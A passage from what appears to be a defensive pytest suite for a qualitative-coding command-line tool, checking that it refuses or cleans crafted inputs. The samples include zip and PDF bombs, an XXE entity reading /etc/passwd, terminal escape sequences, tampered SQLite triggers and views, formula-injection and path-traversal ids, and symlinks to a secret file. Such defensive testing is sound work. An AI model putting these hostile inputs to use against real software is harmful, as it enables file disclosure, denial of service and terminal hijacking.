                 ["export", "findings", "--out", str(target) + ".docx"],
                 ["export", "matrix", "--out", str(target) + ".xlsx"],
                 ["export", "persons", "--out", str(target) + ".csv"]):
        if where == "folder" and argv[0] in ("report", "refi", "export") and argv[1] != "quotes":
            Path(argv[-1] if argv[0] == "export" else str(target) + (".html" if argv[0] == "report" else ".qdpx")
                 ).mkdir(exist_ok=True)
        code, _, err = run_cli(capsys, *argv, "-p", str(project))
        if where == "folder" and argv[:2] == ["export", "quotes"]:
            assert code == 0, err  # a folder is what the quote bank wants
            continue
        assert_clean_error(code, err, what=" ".join(argv[:2]))
        assert "cannot" in err


def test_doctor_finds_units_outside_their_text(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import sqlite3

    conn = sqlite3.connect(project / "qualcode.db")
    conn.execute("DROP TRIGGER IF EXISTS segments_no_update")  # as a damaged or hand-edited file would be
    first = conn.execute("SELECT id FROM segments ORDER BY id LIMIT 1").fetchone()[0]
    try:
        conn.execute("UPDATE segments SET start = -50 WHERE id = ?", (first,))
        conn.execute("UPDATE segments SET end = 1000000000 WHERE id = ?", (first + 1,))
        conn.commit()
    finally:
        conn.close()
    code, out, _ = run_cli(capsys, "doctor", "-p", str(project))
    assert code == 1
    assert "2 unit(s) lie outside their transcript's text" in out


# ---------------------------------------------------------------------------- case sheets and tables


def test_an_xlsx_case_sheet_bomb_is_refused_with_bounded_memory(project: Path, tmp_path: Path) -> None:
    path = tmp_path / "cases.xlsx"
    path.write_bytes(zip_with_bomb({"[Content_Types].xml": "<Types/>"}, "xl/worksheets/sheet1.xml", 2048))
    before = snapshot(project)
    refused(limited(["import", "-p", str(project), "--cases", str(path)]), "cases.xlsx")
    assert snapshot(project) == before


def test_an_xlsx_case_sheet_with_entities_is_refused(project: Path, tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.append(["transcript_id", "case_id"])
    wb.active.append(["KII-01", "KII-01"])
    good = tmp_path / "good.xlsx"
    wb.save(good)
    with zipfile.ZipFile(good) as z:
        members = {n: z.read(n) for n in z.namelist()}
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    members["xl/worksheets/sheet1.xml"] = ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + sheet).encode()
    path = tmp_path / "cases.xlsx"
    path.write_bytes(plain_zip(members))  # type: ignore[arg-type]
    code, _, err = run_cli(capsys, "import", "-p", str(project), "--cases", str(path))
    assert_clean_error(code, err, what="xlsx entity")
    assert "document type" in err and "root:" not in err


def test_control_characters_in_a_case_sheet_and_a_codings_table_are_removed_and_reported(
        project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    cases = tmp_path / "cases.csv"
    cases.write_text("transcript_id,speaker,case_id,location\nKII-01,Ms. Lan,KII-01,Hai \x1b[2JPhong\x07\n",
                     encoding="utf-8")
    code, out, err = run_cli(capsys, "import", "-p", str(project), "--cases", str(cases))
    assert code == 0, err
    assert "control or non-character" in out
    table = tmp_path / "KII-01.csv"
    table.write_text("quote,code,coder,memo\n\"Every complaint now gets a number\",effectiveness,bo\x1b[8mb,"
                     "\"note \x1b]0;owned\x07\"\n", encoding="utf-8")
    code, out, err = run_cli(capsys, "codings", "import", "-p", str(project), str(table))
    assert code == 0, err
    assert "control or non-character" in out
    with Project.open(project) as p:
        assert {c["id"]: c["attributes"].get("location") for c in p.cases()}["KII-01"] == "Hai [2JPhong"
        assert {c["coder"] for c in p.codings()} == {"bo[8mb"}


def test_nothing_printed_to_the_terminal_carries_a_control_character(project: Path, tmp_path: Path,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    import sqlite3

    # a project written before control characters were removed at import, or edited by hand
    conn = sqlite3.connect(project / "qualcode.db")
    conn.execute("UPDATE cases SET attributes = ? WHERE id = 'KII-01'",
                 (json.dumps({"stakeholder_group": "Fac\x1b[31mtory", "location": "\x9b2J"}),))
    conn.commit()
    conn.close()
    with Project.open(project) as p:
        seg = p.segments("KII-01", include_interviewer=False)[0]
        p.set_memo("segment", str(seg["id"]), "memo \x1b]0;pwned\x07 end", coder="e\x1bvil")
        p.add_coding(seg["id"], "effectiveness", coder="e\x1bvil")
    for argv in (["cases"], ["memo", "list"], ["codings", "list"], ["coders"], ["segments", "--transcript", "KII-01"],
                 ["matrix", "--cols", "location"], ["cases", "--json"]):
        code, out, err = run_cli(capsys, *argv, "-p", str(project))
        assert code == 0, err
        assert not any(ch in out + err for ch in "\x1b\x07\x9b"), argv
    code, _, err = run_cli(capsys, "import", "-p", str(project), str(tmp_path / "no\x1b[2Jsuch\nfile.txt"))
    assert_clean_error(code, err, what="file name")
    assert "\x1b" not in err



# ---------------------------------------------------------------------------- desk-review documents


def test_a_pdf_bomb_is_refused_with_bounded_memory(project: Path, tmp_path: Path) -> None:
    path = tmp_path / "report.pdf"
    path.write_bytes(pdf_with_bomb(2048))  # 2 MB on disk, a 2 GB content stream
    before = snapshot(project)
    refused(limited(["import", "-p", str(project), "--document", str(path)]), "PDF bombs")
    assert snapshot(project) == before


def _scattered_words(n: int) -> bytes:
    import random

    rng = random.Random(7)
    return b"BT /F1 1 Tf " + b"".join(b"1 0 0 1 %d %d Tm (w%d) Tj\n" % (rng.randint(0, 600), rng.randint(0, 790), k)
                                      for k in range(n)) + b"ET"


PDF_BOMBS = {
    # 60 kB: 100,000 words on one page in 1-point type (pdfminer keeps ~750 bytes per character)
    "dense-page": (lambda: pdf_pages([b"BT /F1 1 Tf 20 700 Td " + b"(abcdefghijklmnopqrstuvwxyz 0123456789) Tj\n"
                                      * 3000 + b"ET"]), "characters"),
    # 3 kB: one word drawn 10**7 times through nested forms
    "form-laughs": (lambda: pdf_form_laughs(7), "embedded drawings"),
    # 2 kB: the graphics state saved 600,000 times without being restored (430 bytes a copy)
    "saved-states": (lambda: pdf_pages([pdf_text() + b"q\n" * 600_000]), None),
}


@pytest.mark.parametrize("bomb", sorted(PDF_BOMBS))
def test_a_pdf_that_draws_without_end_is_stopped_with_bounded_memory(bomb: str, project: Path,
                                                                     tmp_path: Path) -> None:
    build, needle = PDF_BOMBS[bomb]
    path = tmp_path / "report.pdf"
    path.write_bytes(build())
    assert path.stat().st_size < 100_000
    before = snapshot(project)
    # 250 MB: the interpreter with pdfminer needs under 200 MB; the saved states alone would take 260 MB
    proc = limited(["import", "-p", str(project), "--document", str(path), "--json"], memory_mb=250, timeout=60)
    if needle is None:
        # unmatched saves beyond a thousand are not kept: the page reads correctly, within the memory bound
        assert proc.returncode == 0, proc.stderr
        assert "400 line leaders" in Project.open(project).transcript_text("report")
        return
    refused(proc, "report.pdf", needle, "page 1")
    assert snapshot(project) == before


def test_a_page_of_scattered_words_is_read_in_bounded_memory(project: Path, tmp_path: Path) -> None:
    # pdfminer's grouping of text boxes compared every box with every other: 5,000 words took 3 GB and 50 s
    path = tmp_path / "scatter.pdf"
    path.write_bytes(pdf_pages([_scattered_words(5000)]))
    proc = limited(["import", "-p", str(project), "--document", str(path)], timeout=60)
    assert proc.returncode == 0, proc.stderr
    with Project.open(project) as p:
        text = p.transcript_text("scatter")
    assert "w0" in text and "w4999" in text


@pytest.mark.parametrize("how", ["many-streams", "run-length", "too-much-text", "too-many-operations"])
def test_pdf_bounds_that_follow_the_file_size_bound(how: str, project: Path, tmp_path: Path) -> None:
    # with QUALCODE_MAX_INPUT_MB=2 a stream may unpack to 16 MB, a document's streams to 16 MB together
    path = tmp_path / "report.pdf"
    env = {"QUALCODE_MAX_INPUT_MB": "2"}
    if how == "many-streams":  # each stream within its own bound (and the ratio floor), 24 MB together
        path.write_bytes(pdf_pages([pdf_text(f"Page {k} says something.") + b" " * (3 * MB) for k in range(8)]))
        needle = "in all"
    elif how == "run-length":  # 64 times per two bytes, inside a deflate stream (pdfminer made a list of ints)
        text = pdf_text()
        literal = bytes([len(text) - 1]) + text  # a literal run, then spaces 128 at a time (0x81 = repeat 128)
        path.write_bytes(pdf_pages([pdf_stream(literal + b"\x81 " * (MB // 2) + b"\x80",
                                               filters=b"[/FlateDecode /RunLengthDecode]")]))
        needle = "unpacks to more than"
    elif how == "too-much-text":  # 120,000 characters on two pages, each page within its own bounds
        line = "Line of a long report that goes on about training. " * 4
        lines = b"".join(b"BT /F1 2 Tf 10 %d Td (%s) Tj ET\n" % (780 - 2 * y, line.encode()) for y in range(300))
        path.write_bytes(pdf_pages([lines, lines]))
        needle = "PDF's text"
        env = {"QUALCODE_MAX_INPUT_MB": "0.1"}
    else:  # 80,000 operations per page at 2 MB (2,000,000 at the default 50 MB)
        path.write_bytes(pdf_pages([pdf_text() + b"0 0 m\n" * 30_000]))
        needle = "drawing operations"
    before = snapshot(project)
    refused(limited(["import", "-p", str(project), "--document", str(path)], env=env, timeout=60), needle)
    assert snapshot(project) == before


def test_html_nested_past_the_parsers_depth_is_refused_not_cut_short(project: Path, tmp_path: Path,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "page.html"
    # libxml2 stops at 256 levels and silently drops the rest of the page
    path.write_text("<html><body><p>Introduction to the evaluation.</p>" + "<div>" * 300 + "<p>Findings follow.</p>"
                    + "</div>" * 300 + "<p>The conclusion nobody would see.</p></body></html>", encoding="utf-8")
    before = snapshot(project)
    code, _, err = run_cli(capsys, "import", "-p", str(project), "--document", str(path))
    assert_clean_error(code, err, what="deep html")
    assert "256 levels" in err
    assert snapshot(project) == before
    path.write_text("<html><body><p>Introduction to the evaluation.</p>" + "<div>" * 200 + "<p>Findings follow.</p>"
                    + "</div>" * 200 + "<p>The conclusion everybody sees.</p></body></html>", encoding="utf-8")
    code, _, err = run_cli(capsys, "import", "-p", str(project), "--document", str(path))
    assert code == 0, err
    with Project.open(project) as p:
        assert "The conclusion everybody sees." in p.transcript_text("page")


@pytest.mark.parametrize("kind", ["transcript-lines", "transcript-units", "docx-tags", "html-tags", "document-units"])
def test_files_within_the_size_bound_but_of_too_many_parts_are_refused(kind: str, project: Path,
                                                                       tmp_path: Path) -> None:
    # with QUALCODE_MAX_INPUT_MB=2: 20,000 lines, 4,000 units, 80,000 tags (a few hundred kB each here); at the
    # default 50 MB, 10 MB of two-word lines was 490,000 units and 850 MB, a 15 MB .docx 2.5 GB and ten minutes
    if kind == "transcript-lines":
        path = tmp_path / "kii.txt"
        path.write_text("Interviewer: Yes?\n\nMs Lan: Yes.\n\n" * 6000, encoding="utf-8")
        argv, needle = [str(path)], "lines"
    elif kind == "transcript-units":
        path = tmp_path / "kii.txt"
        path.write_text("Interviewer: Go on.\n\nMs Lan: " + "".join(f"The factory agreed on wage scale {k}. "
                                                                   for k in range(5000)) + "\n", encoding="utf-8")
        argv, needle = [str(path)], "coding units"
    elif kind == "docx-tags":
        path = tmp_path / "kii.docx"
        path.write_bytes(docx([f"Ms Lan: point {k}." for k in range(25_000)]))
        argv, needle = [str(path)], "tags"
    elif kind == "html-tags":
        path = tmp_path / "page.html"
        path.write_text("<html><body>" + "<p>a</p>" * 50_000 + "</body></html>", encoding="utf-8")
        argv, needle = ["--document", str(path)], "tags"
    else:
        path = tmp_path / "notes.md"
        path.write_text("# Notes\n\n" + "".join(f"The factory agreed on wage scale {k}. " for k in range(5000)),
                        encoding="utf-8")
        argv, needle = ["--document", str(path)], "coding units"
    before = snapshot(project)
    refused(limited(["import", "-p", str(project), *argv], env={"QUALCODE_MAX_INPUT_MB": "2"}), needle,
            "QUALCODE_MAX_INPUT_MB")
    assert snapshot(project) == before


def test_a_word_document_bomb_is_refused_with_bounded_memory(project: Path, tmp_path: Path) -> None:
    members = docx_members(["Final evaluation report", "The project trained 400 line leaders in 2023."])
    members.pop("word/document.xml")
    path = tmp_path / "report.docx"
    path.write_bytes(zip_with_bomb(members, "word/document.xml", 2048))
    before = snapshot(project)
    refused(limited(["import", "-p", str(project), "--document", str(path)]), "report.docx")
    assert snapshot(project) == before


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_a_named_pipe_as_a_document_is_refused(project: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "report.pdf"
    os.mkfifo(fifo)
    refused(limited(["import", "-p", str(project), "--document", str(fifo)]), "regular file")


def test_text_typed_with_control_characters_is_cleaned_and_every_export_still_works(
        project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    typed = "grievances doubled \x1b[31m(see annex)\x1b[0m \ufffe\x07"
    code, _, err = run_cli(capsys, "memo", "set", "-p", str(project), "--project-memo", "--text", typed,
                           "--coder", "cl\x1bara")
    assert code == 0, err
    code, _, err = run_cli(capsys, "codings", "add", "-p", str(project), "--segment", "KII-01:3", "--code",
                           "effectiveness", "--memo", typed, "--coder", "ana")
    assert code == 0, err
    code, _, err = run_cli(capsys, "findings", "add", "-p", str(project), "--criterion", "effectiveness",
                           "--statement", "Grievance channels work \x1b[2J well")
    assert code == 0, err
    with Project.open(project) as p:
        stored = [m["text"] for m in p.memos()] + [c["memo"] or "" for c in p.codings()] + [c["name"] for c in
                                                                                          p.coders()]
    assert "grievances doubled [31m(see annex)[0m " in stored and "clara" in stored
    assert not any(ch in "".join(stored) for ch in "\x1b\ufffe\x07")
    for argv in (["refi", "export", "-o", str(tmp_path / "x.qdpx")], ["findings", "export", "--out",
                 str(tmp_path / "f.yaml")], ["report", "--out", str(tmp_path / "r.html")],
                 ["export", "quotes", "--format", "all", "--out", str(tmp_path / "q")]):
        code, _, err = run_cli(capsys, *argv, "-p", str(project))
        assert code == 0, (argv, err)


# ---------------------------------------------------------------------------- a colleague's database


def _tamper(db: Path, *statements: str) -> None:
    import sqlite3

    conn = sqlite3.connect(db)
    try:
        for statement in statements:
            conn.execute(statement)
        conn.commit()
    finally:
        conn.close()


ENDLESS = "WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) SELECT x FROM r"


@pytest.mark.parametrize("how", ["view-for-a-table", "extra-trigger", "generated-column", "escape-sequences"])
def test_a_colleagues_database_that_defines_its_own_code_is_not_opened(
        how: str, project: Path, base_project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    other = tmp_path / "colleague"
    shutil.copytree(base_project, other)
    db = other / "qualcode.db"
    if how == "view-for-a-table":
        _tamper(db, "DROP TABLE memos", f"CREATE VIEW memos AS {ENDLESS}")
    elif how == "extra-trigger":
        _tamper(db, "CREATE TRIGGER wipe AFTER INSERT ON codings BEGIN DELETE FROM codings; END")
    elif how == "generated-column":
        _tamper(db, "ALTER TABLE cases ADD COLUMN heavy BLOB GENERATED ALWAYS AS (zeroblob(1000000000)) VIRTUAL")
    else:
        _tamper(db, "UPDATE cases SET name = 'Lan \x1b]0;owned\x07'",
                "UPDATE transcript_versions SET text = replace(text, 'HR', 'H\x1b[2JR')")
    before = snapshot(project)
    proc = limited(["merge", "-p", str(project), str(other)])
    refused(proc, "control or non-characters" if how == "escape-sequences" else "database objects qualcode does not")
    assert snapshot(project) == before
    backup = tmp_path / "backup.db"
    shutil.copy(db, backup)
    code, _, err = run_cli(capsys, "restore", str(backup), str(tmp_path / "restored"))
    assert_clean_error(code, err, what="restore")
    assert not (tmp_path / "restored" / "qualcode.db").exists()


def test_a_colleagues_ordinary_project_still_merges(project: Path, base_project: Path, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    other = tmp_path / "colleague"
    shutil.copytree(base_project, other)
    with Project.open(other) as p:
        p.add_coding("KII-01:3", "relevance", coder="binh")
    code, _, err = run_cli(capsys, "merge", "-p", str(project), str(other))
    assert code == 0, err
    with Project.open(project) as p:
        assert ("KII-01:3", "relevance", "binh") in {(c["ref"], c["code"], c["coder"]) for c in p.codings()}


def test_a_file_name_with_escape_sequences_gives_a_clean_title_and_doctor_sees_old_dirt(
        project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import sqlite3

    path = tmp_path / "kii\x1b[31mred\x07.txt"
    path.write_text("Interviewer: How was the training this year?\n\nMs Lan: It was useful for our line leaders.\n",
                    encoding="utf-8")
    code, _, err = run_cli(capsys, "import", "-p", str(project), str(path))
    assert code == 0, err
    with Project.open(project) as p:
        assert all(t["title"].isprintable() for t in p.transcripts())
    code, out, _ = run_cli(capsys, "doctor", "-p", str(project))
    assert code == 0 and "ok    characters" in out
    conn = sqlite3.connect(project / "qualcode.db")
    # as an older qualcode let in
    conn.execute("UPDATE cases SET attributes = ? WHERE id = 'KII-01'", (json.dumps({"location": "Hai\x1bPhong"}),))
    conn.commit()
    conn.close()
    code, out, _ = run_cli(capsys, "doctor", "-p", str(project))
    assert "cases.attributes (1)" in out and "\x1b" not in out


@pytest.mark.parametrize("line, needle", [
    ('{"id": "u1", "text": ' + '[' * 100_000 + ']' * 100_000 + '}', "nests too deeply"),
    ('{"id": "u1", "text": "' + "word " * 2000 + '"}', "at most 5,000"),
])
def test_standalone_suggestion_input_is_bounded(line: str, needle: str, tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    units = tmp_path / "units.jsonl"
    units.write_text(line + "\n", encoding="utf-8")
    code, _, err = run_cli(capsys, "suggest", "--segments", str(units), "--codebook",
                           str(ROOT / "codebooks" / "evaluation-criteria.yaml"))
    assert_clean_error(code, err, what=needle)
    assert needle in err


# ---------------------------------------------------------------------------- the name list


NAME_FILES = {
    # a quote left open swallowed the rest of the file as one "name", silently
    "open-quote": ('name,role\n"Nguyen Van A,the adviser\nTran Thi B,\n', "line 2 cannot be read as CSV"),
    # one quoted field past the csv module's limit gave an internal error
    "huge-field": ('"' + "x" * 200_000 + '"\n', "cannot be read as CSV"),
    "long-name": ("(" * 5000 + ",\n", "longer than 200 characters"),
    # a directory, not the people mentioned in the interviews: each name was its own write of the whole list
    "too-many": ("".join(f"Person {chr(65 + k % 26)}{chr(65 + k // 26 % 26)}{chr(65 + k // 676 % 26)}\n"
                         for k in range(12_000)), "more than 10,000 names"),
}


@pytest.mark.parametrize("attack", sorted(NAME_FILES))
def test_a_crafted_name_list_is_refused_in_one_line(attack: str, project: Path, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    content, needle = NAME_FILES[attack]
    path = tmp_path / "names.csv"
    path.write_text(content, encoding="utf-8")
    before = snapshot(project)
    code, _, err = run_cli(capsys, "names", "import", str(path), "-p", str(project))
    assert_clean_error(code, err, what=attack)
    assert needle in err and "names.csv" in err
    assert snapshot(project) == before


def test_control_characters_in_a_name_list_are_removed_and_reported(project: Path, tmp_path: Path,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "names.csv"
    path.write_text("Le \x1b]0;pwn\x07Minh Quan,the chamber\x1b[2J's adviser\n[bold]Khanh[/bold]\ufffe,\n",
                    encoding="utf-8")
    code, out, err = run_cli(capsys, "names", "import", str(path), "-p", str(project))
    assert code == 0, err
    assert "removed 4 control or non-characters from the name list file" in err
    code, out, err = run_cli(capsys, "names", "list", "--show-names", "--json", "-p", str(project))
    assert code == 0, err
    listed = {row["name"]: row["shown_as"] for row in json.loads(out)}
    assert listed == {"Le ]0;pwnMinh Quan": "[the chamber[2J's adviser]", "[bold]Khanh[/bold]": "[name]"}
    assert not any(ch in out for ch in "\x1b\x07\ufffe")


# ---------------------------------------------------------------------------- the documents sheet


def test_a_documents_sheet_bomb_is_refused_with_bounded_memory(project: Path, tmp_path: Path) -> None:
    path = tmp_path / "documents.xlsx"
    path.write_bytes(zip_with_bomb({"[Content_Types].xml": "<Types/>"}, "xl/worksheets/sheet1.xml", 2048))
    doc = tmp_path / "notes.md"
    doc.write_text("# Notes\n\nThe project trained 400 line leaders in 2023.\n", encoding="utf-8")
    before = snapshot(project)
    refused(limited(["import", "-p", str(project), "--document", str(doc), "--document-sheet", str(path)]),
            "documents.xlsx")
    assert snapshot(project) == before


def test_control_characters_in_a_documents_sheet_are_removed_and_reported(project: Path, tmp_path: Path,
                                                                          capsys: pytest.CaptureFixture[str]) -> None:
    doc = tmp_path / "notes.md"
    doc.write_text("# Notes\n\nThe project trained 400 line leaders in 2023.\n", encoding="utf-8")
    sheet = tmp_path / "documents.csv"
    sheet.write_text("file,title,organisation\nnotes.md,Annual \x1b[2Jreport\ufffe,\x1b]0;owned\x07ILO\n",
                     encoding="utf-8")
    code, out, err = run_cli(capsys, "import", "-p", str(project), "--document", str(doc), "--document-sheet",
                             str(sheet))
    assert code == 0, err
    assert "removed 4 control or non-characters from the documents sheet" in out
    code, out, err = run_cli(capsys, "documents", "-p", str(project), "--json")
    assert code == 0, err
    assert "Annual [2Jreport" in out and "\\u001b" not in out and "\x1b" not in out


# ---------------------------------------------------------------------------- REFI-QDA: PDF sources


def _pdf_source(ref: str) -> str:
    return f'<PDFSource guid="5C1D2B3A-4E5F-4A6B-8C7D-9E0F1A2B3C4D" name="Final report" path="{ref}"/>'


@pytest.mark.parametrize("attack", ["stream-bomb", "form-laughs", "outside"])
def test_a_pdf_source_in_a_qdpx_is_read_within_the_bounds_or_left_out(attack: str, project: Path, tmp_path: Path,
                                                                       secret: Path) -> None:
    # the rest of the archive imports; the PDF source is left out with a warning naming why
    drop = _drop(tmp_path)
    members: dict[str, bytes | str] = {"sources/kii.txt": SOURCE_TEXT}
    if attack == "stream-bomb":
        members["sources/report.pdf"] = pdf_with_bomb(400)
        needle = "unpacks to more than"
    elif attack == "form-laughs":
        members["sources/report.pdf"] = pdf_form_laughs(7)
        needle = "embedded drawings"
    else:  # a real PDF beside the user's secret: never read from the disk
        (secret.parent / "report.pdf").write_bytes(pdf_pages([pdf_text("The SECRET budget line is hunter2.")]))
        needle = "outside the archive"
    ref = f"absolute://{secret.parent / 'report.pdf'}" if attack == "outside" else "internal://report.pdf"
    path = qdpx(drop / "partner.qdpx", qde(sources=text_source("internal://kii.txt")
                                          + _pdf_source(ref)), members)
    proc = limited(["refi", "import", "-p", str(project), str(path), "--json"], timeout=120)
    assert proc.returncode == 0, proc.stderr
    report = proc.stdout
    assert needle in report and "Final report" in report, report
    with Project.open(project) as p:
        assert [t["id"] for t in p.transcripts() if t["kind"] == "document"] == []
        texts = [p.transcript_text(t["id"]) for t in p.transcripts()]
    assert not any("hunter2" in t or "laugh" in t for t in texts)
    assert any("grievance training helped our line leaders" in t for t in texts)  # the text source came in


# ---------------------------------------------------------------------------- Excel sheets that state their own size


HEADER = {"A1": "transcript_id", "B1": "speaker", "C1": "case_id", "D1": "location"}
ROW = {"A2": "KII-01", "B2": "Ms. Lan", "C2": "KII-01", "D2": "Hai Phong"}


@pytest.mark.parametrize("attack", ["stated-size", "last-cell", "past-excel"])
def test_an_xlsx_sheet_claiming_a_million_rows_is_read_in_bounded_memory(attack: str, project: Path,
                                                                         tmp_path: Path) -> None:
    # a 2 kB workbook stating A1:XFD1048576 with one value in its last row made openpyxl fill every row in between
    # with 16,384 empty cells: 17 billion cells, memory without end (stated-size: the same sheet without it imports)
    path = tmp_path / "cases.xlsx"
    rows: dict[int, dict[str, str]] = {1: HEADER, 2: ROW}
    if attack == "last-cell":  # one stray value in Excel's last cell
        rows[1_048_576] = {"XFD1048576": "x"}
    elif attack == "past-excel":
        rows[50_000_000] = {"A50000000": "x"}
    path.write_bytes(xlsx_sheet(rows, dimension="A1:XFD1048576"))
    before = snapshot(project)
    proc = limited(["import", "-p", str(project), "--cases", str(path)], timeout=120)
    if attack == "last-cell":
        refused(proc, "cases.xlsx:1048576", "16384 values")
    elif attack == "past-excel":
        refused(proc, "past row 1,048,576")
    else:
        assert proc.returncode == 0, proc.stderr
        with Project.open(project) as p:
            assert {c["id"]: c["attributes"].get("location") for c in p.cases()}["KII-01"] == "Hai Phong"
        return
    assert snapshot(project) == before


# ---------------------------------------------------------------------------- ids that look like paths


@pytest.mark.parametrize(("column", "value", "why"), [
    ("transcript_id", "../notes", "holds '/'"), ("transcript_id", "=HYPERLINK(A1)", "starts with '='"),
    ("transcript_id", "-rf", "starts with '-'"), ("transcript_id", "KII:01", "holds ':'"),
    ("transcript_id", "..", "names a folder"), ("case_id", "@SUM(1+1)", "starts with '@'"),
    ("case_id", "a\\b", "holds '/' or '\\'")])
def test_a_case_sheet_id_that_cannot_be_used_is_refused_in_one_line(
        project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], column: str, value: str, why: str) -> None:
    import csv

    kii = tmp_path / "kii.txt"
    kii.write_text("Interviewer: How was it?\n\nMs Lan: The training helped our line leaders a lot.\n",
                   encoding="utf-8")
    cases = tmp_path / "cases.csv"
    with open(cases, "w", encoding="utf-8", newline="") as fh:
        row = {"transcript_id": "KII-09", "file": "kii.txt", "speaker": "Ms Lan", "case_id": "C9", column: value}
        csv.writer(fh).writerows([list(row), list(row.values())])
    before = snapshot(project)
    code, _, err = run_cli(capsys, "import", "-p", str(project), str(kii), "--cases", str(cases))
    assert_clean_error(code, err, what=value)
    assert f"cases.csv:2: {column} '{value}' cannot be used: it {why}" in err and "KII-01" in err  # says what to do
    assert snapshot(project) == before
    code, _, err = run_cli(capsys, "import", "-p", str(project), "--cases", str(cases))  # the sheet alone, too
    assert_clean_error(code, err, what=value)


def test_a_file_whose_name_gives_no_usable_id_is_refused(project: Path, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    odd = tmp_path / "...txt"  # its name gives the id '..'
    odd.write_text("Interviewer: How was it?\n\nMs Lan: The training helped a lot.\n", encoding="utf-8")
    code, _, err = run_cli(capsys, "import", "-p", str(project), str(odd))
    assert_clean_error(code, err, what=odd.name)
    assert "would get the transcript id '..', which cannot be used" in err and "transcript_id column" in err


def test_a_transcript_id_never_chooses_where_a_file_is_written(project: Path, tmp_path: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    # a case sheet gives a transcript id as written; 'redact --out' wrote <id>.txt, so '../../outside' put a file
    # two folders up, creating the folders on the way. The import now refuses such an id ...
    kii = tmp_path / "kii.txt"
    kii.write_text("Interviewer: How was it?\n\nMs Lan: The training helped our line leaders a lot.\n",
                   encoding="utf-8")
    cases = tmp_path / "cases.csv"
    cases.write_text("transcript_id,file,speaker,case_id\n../../outside,kii.txt,Ms Lan,C9\n", encoding="utf-8")
    before = snapshot(project)
    code, _, err = run_cli(capsys, "import", "-p", str(project), str(kii), "--cases", str(cases))
    assert_clean_error(code, err, what="../../outside")
    assert "cases.csv:2: transcript_id '../../outside' cannot be used" in err and snapshot(project) == before
    # ... and a project made before it still has one: redact writes it inside the folder all the same
    from transcript_support import transcript_from_turns

    with Project.open(project) as p:
        p.add_transcript(transcript_from_turns([("Ms Lan", ["The training helped our line leaders a lot."])],
                                               source_name="kii.txt"), "../../outside", coder="ana")
    share = tmp_path / "share" / "deep"
    code, out, err = run_cli(capsys, "redact", "-p", str(project), "--out", str(share), "--json")
    assert code == 0, err
    assert "outside.txt" in sorted(p.name for p in share.iterdir())
    assert [p for p in tmp_path.rglob("*outside*") if share not in p.parents] == []
    assert all(Path(f).parent == share for f in json.loads(out)["files"])


def test_a_folder_import_does_not_follow_links_out_of_the_folder(project: Path, secret: Path, tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    # a partner's archive unpacked into Downloads (unzip and tar recreate symbolic links), then imported as a folder
    drop = _drop(tmp_path)
    (drop / "kii-07.txt").write_text("Interviewer: How was it?\n\nMs Lan: The training helped our line leaders a"
                                     " lot.\n", encoding="utf-8")
    (drop / "kii-08.txt").symlink_to(secret)
    (drop / "cases.csv").symlink_to(secret)
    code, out, err = run_cli(capsys, "import", "-p", str(project), str(drop))
    assert code == 0, err
    assert "2 file(s) in the folder are symbolic links and were left out" in out + err
    with Project.open(project) as p:
        texts = [p.transcript_text(t["id"]) for t in p.transcripts()]
    assert not any("hunter2" in t for t in texts)
    assert any("helped our line leaders" in t for t in texts)
